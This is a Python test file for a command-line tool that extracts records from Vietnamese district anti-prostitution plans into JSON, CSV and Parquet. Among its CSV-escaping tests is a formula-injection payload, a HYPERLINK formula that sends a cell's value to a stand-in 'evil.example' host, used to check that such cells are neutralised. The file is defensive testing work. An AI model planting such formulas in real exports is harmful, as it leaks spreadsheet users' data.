"""`kehoach extract` as an analyst runs it: a folder in, records and errors out."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from pathlib import Path

import jsonschema
import pytest
from typer.testing import CliRunner

from pipeline.batch import find_inputs
from pipeline.cli import app
from pipeline.models import Document

ROOT = Path(__file__).resolve().parents[1]
CORPUS = ROOT / "corpus"
runner = CliRunner()

# corpus/004, shortened: a district plan with a blank number and day.
GOOD_PLAN = """Số: /KH-UBND

Chi Lăng, ngày tháng 6 năm 2024

KẾ HOẠCH
Thực hiện công tác phòng, chống mại dâm năm 2024

Thực hiện Kế hoạch số 76/KH-UBND ngày 29/3/2024 của UBND tỉnh Lạng Sơn, UBND huyện Chi Lăng ban hành Kế hoạch phòng, chống mại dâm năm 2024 như sau:

I. MỤC ĐÍCH, YÊU CẦU

1. Tăng cường công tác tuyên truyền, phổ biến giáo dục pháp luật.

II. TỔ CHỨC THỰC HIỆN

1. Công an huyện

Chủ trì, phối hợp với Phòng Văn hóa và Thông tin huyện kiểm tra các cơ sở kinh doanh dịch vụ.

KT. CHỦ TỊCH
PHÓ CHỦ TỊCH

Nguyễn Hùng Mạnh
"""

BAD_INPUTS = {
    "empty.txt": b"",
    "junk.txt": bytes(range(256)) * 50,
    "not-a-zip.docx": b"\x01\x02" + bytes(range(256)) * 8,
    "truncated.pdf": b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog",
    "old.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1024,
}


@pytest.fixture
def batch(tmp_path: Path) -> Path:
    folder = tmp_path / "in"
    (folder / "sub").mkdir(parents=True)
    (folder / "chi-lang.txt").write_text(GOOD_PLAN, encoding="utf-8")
    (folder / "sub" / "kế hoạch xã.md").write_text(GOOD_PLAN.replace("huyện Chi Lăng", "xã Cẩm Ngọc"), encoding="utf-8")
    for name, data in BAD_INPUTS.items():
        (folder / name).write_bytes(data)
    (folder / "README.md").write_text("# notes beside the corpus, not a plan\n", encoding="utf-8")
    return folder


def _extract(*args: str) -> object:
    return runner.invoke(app, ["extract", *args])


def test_one_bad_file_never_stops_a_batch(batch: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = _extract(str(batch), "-o", str(out), "-j", "2")
    assert result.exit_code == 1
    errors = [json.loads(line) for line in (out / "errors.jsonl").read_text().splitlines()]
    assert sorted(Path(e["path"]).name for e in errors) == sorted(BAD_INPUTS)
    for error in errors:
        assert error["stage"] == "load" and error["error"]
    assert sorted(p.name for p in out.glob("*.json")) == ["chi-lang.json", "kế_hoạch_xã.json"]
    assert "Traceback" not in result.output


@pytest.mark.parametrize(
    ("name", "cause"),
    [
        pytest.param("empty.txt", "empty", id="empty"),
        pytest.param("junk.txt", "binary", id="junk"),
        pytest.param("not-a-zip.docx", "not a Word .docx file, nor text", id="junk-named-docx"),
        pytest.param("truncated.pdf", "PDF", id="truncated-pdf"),
        pytest.param("old.doc", ".doc", id="word-97"),
    ],
)
def test_each_error_names_its_cause(batch: Path, tmp_path: Path, name: str, cause: str) -> None:
    out = tmp_path / "out"
    _extract(str(batch / name), "-o", str(out), "-q")
    (error,) = [json.loads(line) for line in (out / "errors.jsonl").read_text().splitlines()]
    assert cause in error["error"]


@pytest.mark.parametrize("fmt", ["json", "jsonl", "csv", "parquet", "json,csv,parquet"])
def test_output_is_byte_identical_across_runs(batch: Path, tmp_path: Path, fmt: str) -> None:
    outs = []
    for run, jobs in (("a", "1"), ("b", "2")):
        out = tmp_path / run
        _extract(str(batch), "-o", str(out), "-f", fmt, "-j", jobs, "-q")
        outs.append({p.name: p.read_bytes() for p in sorted(out.iterdir()) if p.is_file()})
    assert outs[0] == outs[1]
    assert not [n for n in outs[0] if n.endswith(".part")]


def test_csv_tables_carry_doc_id(batch: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    _extract(str(batch), "-o", str(out), "-f", "csv", "-q")
    for table in ("documents", "sections", "targets", "tasks", "agencies", "deadlines", "citations"):
        header = (out / f"{table}.csv").read_text(encoding="utf-8").splitlines()[0]
        assert header.startswith("doc_id,")
    rows = (out / "documents.csv").read_text(encoding="utf-8").splitlines()
    assert len(rows) == 3 and "UBND huyện Chi Lăng" in rows[1]


def test_task_agencies_table_pivots_on_lead_without_cleaning(batch: Path, tmp_path: Path) -> None:
    import pandas as pd

    out = tmp_path / "out"
    _extract(str(batch), "-o", str(out), "-f", "csv", "-q")
    pairs = pd.read_csv(out / "task_agencies.csv")
    leads = pairs[pairs.role == "lead"].groupby("agency").size()
    assert leads.to_dict() == {"Công an huyện": 2}
    partners = pairs[pairs.role == "partner"].agency.unique().tolist()
    assert partners == ["Phòng Văn hóa và Thông tin huyện"]
    tasks = pd.read_csv(out / "tasks.csv")
    assert set(pairs.task) <= set(tasks.task)


@pytest.mark.parametrize(
    "args",
    [
        pytest.param(["--stages", "load,normalize"], id="unknown-stage"),
        pytest.param(["--format", "xml"], id="unknown-format"),
    ],
)
def test_usage_errors_exit_2(batch: Path, tmp_path: Path, args: list[str]) -> None:
    assert _extract(str(batch), "-o", str(tmp_path / "out"), *args).exit_code == 2


def test_a_folder_without_files_is_a_usage_error(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    assert _extract(str(tmp_path / "empty"), "-o", str(tmp_path / "out")).exit_code == 2


def test_a_missing_path_is_reported_not_crashed(tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = _extract(str(tmp_path / "nope.txt"), "-o", str(out), "-q")
    assert result.exit_code == 1
    assert json.loads((out / "errors.jsonl").read_text())["error"] == "no such file or folder"


def test_schema_is_the_document_json_schema() -> None:
    result = runner.invoke(app, ["schema"])
    schema = json.loads(result.stdout)
    assert result.exit_code == 0
    assert {"doc_id", "source", "text", "metadata", "sections", "targets", "citations"} <= set(schema["properties"])


def _letters(text: str) -> str:
    """Base letters only: what survives markup removal, re-wrapping and tone placement."""
    decomposed = unicodedata.normalize("NFD", text)
    return "".join(c for c in decomposed if c.isalnum()).replace("đ", "d").replace("Đ", "D")


@pytest.fixture(scope="module")
def corpus_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("corpus-out")
    result = _extract(str(CORPUS), "-o", str(out), "-q")
    assert result.exit_code == 0, result.output
    return out


def test_every_file_of_the_bundled_corpus_gives_a_valid_document(corpus_run: Path) -> None:
    """20 web-text plans, the real documents of corpus/real and the 20 real files of
    corpus/formats (scans, .doc, legacy fonts): one valid Document each, no error."""
    schema = json.loads(runner.invoke(app, ["schema"]).stdout)
    files = sorted(corpus_run.glob("*.json"))
    inputs, _ = find_inputs([CORPUS])
    assert len(files) == len(inputs) >= 40
    assert (corpus_run / "errors.jsonl").read_text() == ""
    for path in files:
        data = json.loads(path.read_text(encoding="utf-8"))
        jsonschema.validate(data, schema)
        Document.model_validate(data)


def test_every_section_span_is_evidence_in_text_and_source(corpus_run: Path) -> None:
    for path in sorted(corpus_run.glob("*.json")):
        doc = Document.model_validate_json(path.read_text(encoding="utf-8"))
        if doc.source.format not in ("txt", "md"):
            continue  # the loaded text of a PDF, .doc or scan is not the file's bytes
        source = (ROOT / doc.source.path).read_text(encoding="utf-8") if not Path(doc.source.path).is_absolute() \
            else Path(doc.source.path).read_text(encoding="utf-8")
        for section in doc.sections:
            start, end = section.span
            assert 0 <= start < end <= len(doc.text)
            if section.heading_span:
                h_start, h_end = section.heading_span
                assert doc.text[h_start:h_end] == section.heading
            s_start, s_end = section.source_span
            assert _letters(source[s_start:s_end]) == _letters(doc.text[start:end]), (doc.doc_id, section.id)


def test_news_article_is_processed_as_news(corpus_run: Path) -> None:
    doc = json.loads((corpus_run / "002_f7b7322e067c048d.json").read_text(encoding="utf-8"))
    assert doc["metadata"]["doc_type"] == "news"
    assert re.search(r"mại dâm", doc["text"])


def test_indicators_line_up_the_seed_plans(corpus_run: Path) -> None:
    result = runner.invoke(app, ["indicators", str(corpus_run), "--csv"])
    rows = {row["indicator"]: row for row in csv.DictReader(io.StringIO(result.stdout))}
    propaganda, training = rows["localities_with_propaganda"], rows["staff_trained"]
    assert (propaganda["Thanh Hóa 2023"], propaganda["Chi Lăng 2024"]) == ("≥ 80 %", "≥ 20 %")
    assert propaganda["Hòa Bình 2017"] == "5/11 huyện, thành phố"
    assert training["Thanh Hóa 2023"] and training["Chi Lăng 2024"] and training["Hòa Bình 2017"] == "2 lớp"

def test_compare_lines_up_the_seed_plans_propaganda_and_training_in_one_chart(
        corpus_run: Path, tmp_path: Path) -> None:
    dest = tmp_path / "compare"
    result = runner.invoke(app, ["compare", str(corpus_run), "-o", str(dest),
                                 "-i", "localities_with_propaganda", "-i", "staff_trained"])
    assert result.exit_code == 0, result.output
    svg = (dest / "charts" / "overview.svg").read_text(encoding="utf-8")
    assert (dest / "charts" / "overview.png").stat().st_size > 0
    for text in ("localities_with_propaganda", "staff_trained", "Thanh Hóa", "Hòa Bình", "Chi Lăng",
                 "≥ 80 %", "≥ 20 %", "5/11 huyện, thành phố", "≥ 30 %", "2 lớp"):
        assert text in svg, text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        pytest.param('=HYPERLINK("http://x/?q="&A1,"Bấm")', '\'=HYPERLINK("http://x/?q="&A1,"Bấm")', id="equals"),
        pytest.param("+84 912 345 678", "'+84 912 345 678", id="plus"),
        pytest.param("- Tăng cường tuyên truyền", "'- Tăng cường tuyên truyền", id="minus-bullet"),
        pytest.param("@SUM(1+1)", "'@SUM(1+1)", id="at"),
        pytest.param("\t=1+2", "'\t=1+2", id="tab"),
        pytest.param("\r=1+2", "'\r=1+2", id="carriage-return"),
        pytest.param("'18/KH-UBND", "''18/KH-UBND", id="a-quote-first-is-quoted-so-one-quote-is-always-dropped"),
        pytest.param("Sở Tư pháp", "Sở Tư pháp", id="plain-text"),
        pytest.param("a=b", "a=b", id="formula-character-inside"),
        pytest.param(-5, -5, id="negative-number-stays-a-number"),
        pytest.param(None, "", id="null-is-empty"),
    ],
)
def test_csv_cells_that_start_like_a_formula_get_a_quote(value: object, cell: object) -> None:
    from pipeline.outputs import csv_cell

    assert csv_cell(value) == cell


FORMULA_TITLE = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'


def test_csv_tables_never_start_a_cell_with_a_formula_while_jsonl_keeps_the_raw_values(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    plan = GOOD_PLAN.replace("Thực hiện công tác phòng, chống mại dâm năm 2024", FORMULA_TITLE, 1)
    (folder / "@SUM(1+1).txt").write_text(plan, encoding="utf-8")
    _extract(str(folder), "-o", str(tmp_path / "csv"), "-f", "csv", "-q")
    _extract(str(folder), "-o", str(tmp_path / "jsonl"), "-f", "jsonl", "-q")
    for table in sorted((tmp_path / "csv").glob("*.csv")):
        for row in csv.reader(io.StringIO(table.read_text(encoding="utf-8"))):
            assert not [c for c in row if c.startswith(("=", "+", "-", "@", "\t", "\r"))], (table.name, row)
    (doc_row,) = csv.DictReader(io.StringIO((tmp_path / "csv" / "documents.csv").read_text(encoding="utf-8")))
    assert (doc_row["doc_id"], doc_row["title"]) == ("'@SUM(1+1)", "'" + FORMULA_TITLE)
    doc = json.loads((tmp_path / "jsonl" / "documents.jsonl").read_text(encoding="utf-8"))
    assert (doc["doc_id"], doc["metadata"]["title"]) == ("@SUM(1+1)", FORMULA_TITLE)


def _sources(out: Path) -> list[str]:
    """The input files behind an output folder's documents, in any format."""
    if (out / "documents.csv").exists():
        return sorted(Path(r["source_path"]).name for r in
                      csv.DictReader(io.StringIO((out / "documents.csv").read_text(encoding="utf-8"))))
    lines = (out / "documents.jsonl").read_text(encoding="utf-8").splitlines() if (out / "documents.jsonl").exists() \
        else [p.read_text(encoding="utf-8") for p in out.glob("*.json")]
    return sorted(Path(json.loads(line)["source"]["path"]).name for line in lines)


def test_output_folders_inside_the_input_are_never_read_back(tmp_path: Path) -> None:
    folder = tmp_path / "plans"
    folder.mkdir()
    (folder / "chi-lang.txt").write_text(GOOD_PLAN, encoding="utf-8")
    (folder / "cam-ngoc.md").write_text(GOOD_PLAN.replace("huyện Chi Lăng", "xã Cẩm Ngọc"), encoding="utf-8")
    plans = ["cam-ngoc.md", "chi-lang.txt"]
    runs = [
        ("out", "json"), ("out", "json"),  # the same output folder, run again
        ("tables", "csv"),  # a second output folder beside the first
        ("out", "jsonl"),
        (".", "json"), (".", "json"),  # the output folder is the input folder itself
    ]
    for i, (name, fmt) in enumerate(runs):
        out = folder / name
        result = _extract(str(folder), "-o", str(out), "-f", fmt, "-q")
        assert result.exit_code == 0, (i, result.output)
        assert (out / "errors.jsonl").read_text(encoding="utf-8") == ""
        assert _sources(out) == plans, (i, name, fmt)
        if i == 1:  # and a report site inside the input is skipped as well
            assert runner.invoke(app, ["report", str(out), "-o", str(folder / "site")]).exit_code == 0


def test_follow_symlinks_reads_a_link_out_of_the_input_folder(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "chi-lang.txt").write_text(GOOD_PLAN, encoding="utf-8")
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "linked.txt").symlink_to(elsewhere / "chi-lang.txt")
    (folder / "linked-folder").symlink_to(elsewhere, target_is_directory=True)
    out = tmp_path / "out"
    assert _extract(str(folder), "-o", str(out), "-q").exit_code == 1
    errors = [json.loads(line) for line in (out / "errors.jsonl").read_text(encoding="utf-8").splitlines()]
    assert sorted(Path(e["path"]).name for e in errors) == ["linked-folder", "linked.txt"]
    assert all("--follow-symlinks" in e["error"] and e["stage"] == "read" for e in errors)
    followed = tmp_path / "followed"
    assert _extract(str(folder), "-o", str(followed), "-q", "--follow-symlinks").exit_code == 0
    assert sorted(p.name for p in followed.glob("*.json")) == ["chi-lang.json", "linked.json"]


def test_the_whole_corpus_reads_back_the_same_from_csv_and_parquet(corpus_run: Path, tmp_path: Path) -> None:
    """Scans, .doc, legacy fonts and web text alike: the tables rebuild the Documents exactly
    (the run takes every document from the cache of `corpus_run`)."""
    from pipeline.readers import load_documents

    result = _extract(str(CORPUS), "-o", str(corpus_run), "-f", "json,csv,parquet", "-q")
    assert result.exit_code == 0, result.output
    docs = load_documents(corpus_run)
    for fmt in ("csv", "parquet"):
        only = tmp_path / fmt
        only.mkdir()
        for path in corpus_run.glob(f"*.{fmt}"):
            (only / path.name).write_bytes(path.read_bytes())
        assert load_documents(only) == docs, fmt
